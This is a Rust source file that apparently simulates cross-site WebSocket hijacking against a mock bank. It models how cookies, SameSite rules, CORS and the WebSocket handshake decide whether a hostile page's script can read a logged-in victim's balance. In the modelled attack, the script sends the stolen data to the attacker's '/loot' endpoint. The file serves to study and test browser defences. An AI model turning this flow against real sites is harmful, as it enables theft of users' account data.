//! The victim's browser with the page's script in it, and the attacker's program, which is none.
//!
//! The browser knows what no script can change: which page asks, which cookies go along, and which
//! answers a script may read.

use http::{Response, StatusLine};
use kernel::{Fd, Time};
use websocket::Role;
use websocket::frame::Opcode;
use websocket::handshake::accept;

use super::message::{Inbox, field, frame, request};
use super::plan::{Credential, Opener, Plan, address};
use super::site::{BANK, BANK_ORIGIN, Origin, is_carried};
use super::step::{Happens, Learned, Log, Step, Who, learn, tell};
use crate::simulated::Os;

/// When the attacker's program begins: the victim has logged in by then.
const LATER: Time = Time::from_ms(1_000);

/// What a client is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    Browser,
    Program,
}

/// A client, which does one thing after the other.
pub(super) struct Client {
    plan: Plan,
    kind: Kind,
    log: Log,
    /// The connection that it waits on, and the step that it has sent there.
    fd: Fd,
    sends: Happens,
    inbox: Inbox,
    cookie: Option<String>,
    token: String,
    read: String,
}

/// The form of the bank's page, sent.
fn login() -> Vec<u8> {
    let fields = [
        ("Host", BANK),
        ("Origin", BANK_ORIGIN),
        ("Content-Type", "application/x-www-form-urlencoded"),
    ];
    request("POST", "/login", &fields, "user=victim&password=secret")
}

impl Client {
    pub(super) fn new(plan: &Plan, kind: Kind, log: &Log) -> Self {
        Self {
            plan: plan.clone(),
            kind,
            log: log.clone(),
            fd: -1,
            sends: Happens::Login,
            inbox: Inbox::default(),
            cookie: None,
            token: String::new(),
            read: String::new(),
        }
    }

    pub(super) fn start(&mut self, os: &mut Os<'_>) {
        match self.kind {
            Kind::Browser => self.go(os, Happens::Login),
            Kind::Program => os.timer(LATER, 0),
        }
    }

    /// Time for the program.
    pub(super) fn wake(&mut self, os: &mut Os<'_>) {
        self.go(os, Happens::Ask);
    }

    /// Connects, to send something.
    fn go(&mut self, os: &mut Os<'_>, sends: Happens) {
        self.sends = sends;
        self.inbox = Inbox::default();
        let bank = Origin::bank();
        let to = match sends {
            Happens::Visit | Happens::Loot => self.plan.page.as_ref().unwrap_or(&bank),
            _ => &bank,
        };
        if let Ok(fd) = os.connect(address(to)) {
            self.fd = fd;
        }
    }

    pub(super) fn connected(&mut self, os: &mut Os<'_>, fd: Fd) {
        let bytes = match self.sends {
            Happens::Login => login(),
            Happens::Fetch => self.fetch(),
            Happens::Ask => self.handshake(os),
            _ => self.of_page(),
        };
        self.say(os, fd, bytes);
    }

    fn say(&self, os: &mut Os<'_>, fd: Fd, bytes: Vec<u8>) {
        let from = match self.kind {
            Kind::Browser => Who::Browser,
            Kind::Program => Who::Attacker,
        };
        let is_elsewhere = matches!(self.sends, Happens::Visit | Happens::Loot);
        let to = if is_elsewhere && !self.plan.is_own() { Who::Attacker } else { Who::Bank };
        let step = Step { happens: self.sends, from, to, bytes, learned: None };
        tell(os, fd, &self.log, step);
    }

    /// The cookie, if what a script of the page causes carries it.
    fn carried(&self) -> Option<&str> {
        let page = self.plan.page.as_ref()?;
        let may = is_carried(self.plan.same_site, self.plan.rule, page);
        self.cookie.as_deref().filter(|_| may)
    }

    /// A visit, and what the script brings to its own server.
    fn of_page(&self) -> Vec<u8> {
        let Some(page) = &self.plan.page else { return Vec::new() };
        let (host, origin) = (page.authority(), page.write());
        if self.sends == Happens::Loot {
            let fields = [("Host", &*host), ("Origin", &origin), ("Content-Type", "text/plain")];
            return request("POST", "/loot", &fields, &self.read);
        }
        let mut fields = vec![("Host", &*host)];
        // The address was typed: of the bank's own page the bank's cookie is part, whatever it
        // says of other sites.
        let cookie = self.cookie.as_deref().filter(|_| self.plan.is_own());
        fields.extend(cookie.map(|cookie| ("Cookie", cookie)));
        request("GET", "/", &fields, "")
    }

    fn fetch(&self) -> Vec<u8> {
        let origin = self.plan.page.as_ref().map(Origin::write).unwrap_or_default();
        let mut fields = vec![("Host", BANK)];
        // To its own origin a page's GET says no origin (Fetch, “append a request Origin header”).
        if !self.plan.is_own() {
            fields.push(("Origin", &origin));
        }
        fields.extend(self.carried().map(|cookie| ("Cookie", cookie)));
        request("GET", "/token", &fields, "")
    }

    /// The handshake (§4.1): the page's script says where to, all else the browser says.
    fn handshake(&self, os: &mut Os<'_>) -> Vec<u8> {
        let nonce: [u8; 16] = std::array::from_fn(|_| os.random(256) as u8);
        let key = accept::encode(&nonce);
        let origin = self.plan.page.as_ref().map(Origin::write);
        let target = match self.plan.credential {
            Credential::Query => ["/account?token=", &self.token].concat(),
            _ => "/account".to_owned(),
        };
        let mut fields = vec![
            ("Host", BANK),
            ("Upgrade", "websocket"),
            ("Connection", "Upgrade"),
            ("Sec-WebSocket-Key", &*key),
            ("Sec-WebSocket-Version", "13"),
        ];
        fields.extend(origin.as_deref().map(|origin| ("Origin", origin)));
        fields.extend(self.carried().map(|cookie| ("Cookie", cookie)));
        request("GET", &target, &fields, "")
    }

    pub(super) fn receive(&mut self, os: &mut Os<'_>, fd: Fd, bytes: &[u8]) {
        if fd != self.fd {
            return;
        }
        self.inbox.push(bytes);
        if self.sends == Happens::Message {
            if let Some((opcode, payload)) = self.inbox.take_frame(Role::Client) {
                self.answered(os, opcode, &payload);
            }
        } else if let Some((head, body)) = self.inbox.take::<StatusLine>() {
            self.responded(os, &head, &body);
        }
    }

    fn responded(&mut self, os: &mut Os<'_>, head: &Response, body: &str) {
        let next = match self.sends {
            Happens::Login => {
                self.keep(head);
                // The attacker's program opens nothing in the victim's browser.
                (self.plan.opener == Opener::Browser).then_some(Happens::Visit)
            }
            Happens::Visit if self.plan.credential == Credential::Cookie => Some(Happens::Ask),
            Happens::Visit => Some(Happens::Fetch),
            Happens::Fetch => {
                self.hand(head, body);
                Some(Happens::Ask)
            }
            Happens::Ask if head.start.status == 101 => return self.opened(os),
            _ => None,
        };
        os.close(self.fd);
        if let Some(next) = next {
            self.go(os, next);
        }
    }

    /// Keeps the cookie of a response (RFC 6265 §5.2): its name and value.
    fn keep(&mut self, head: &Response) {
        let cookie = field(head, "Set-Cookie").and_then(|line| line.split(';').next());
        if let Some(cookie) = cookie {
            learn(&self.log, Learned::Cookie(cookie.to_owned()));
            self.cookie = Some(cookie.to_owned());
        }
    }

    /// Hands an answer to the script, if it is one of its own origin or says that it may be read
    /// (Fetch, “CORS check”).
    fn hand(&mut self, head: &Response, body: &str) {
        let origin = self.plan.page.as_ref().map(Origin::write);
        let is_allowed = field(head, "Access-Control-Allow-Origin") == origin.as_deref()
            && field(head, "Access-Control-Allow-Credentials") == Some("true");
        if !self.plan.is_own() && !is_allowed {
            return learn(&self.log, Learned::Withheld);
        }
        if head.start.status == 200 {
            body.clone_into(&mut self.token);
            learn(&self.log, Learned::Reads(body.to_owned()));
        }
    }

    /// The WebSocket is open, for the script too: it sends its first message.
    fn opened(&mut self, os: &mut Os<'_>) {
        self.sends = Happens::Message;
        let text = match self.plan.credential {
            Credential::Message => ["token=", &self.token, " balance?"].concat(),
            _ => "balance?".to_owned(),
        };
        let key = std::array::from_fn(|_| os.random(256) as u8);
        let bytes = frame(Opcode::Text, Some(key), text.as_bytes());
        self.say(os, self.fd, bytes);
    }

    fn answered(&mut self, os: &mut Os<'_>, opcode: Opcode, payload: &[u8]) {
        let key = std::array::from_fn(|_| os.random(256) as u8);
        if opcode != Opcode::Text {
            // A Close frame is answered with its code (§5.5.1); the script is told by `close`.
            os.send(self.fd, &frame(opcode, Some(key), &payload[..payload.len().min(2)]));
            return;
        }
        self.read = String::from_utf8_lossy(payload).into_owned();
        let is_loot = self.kind == Kind::Program;
        let read = self.read.clone();
        learn(&self.log, if is_loot { Learned::Loot(read) } else { Learned::Reads(read) });
        if !is_loot && !self.plan.is_own() {
            self.go(os, Happens::Loot);
        }
    }
}
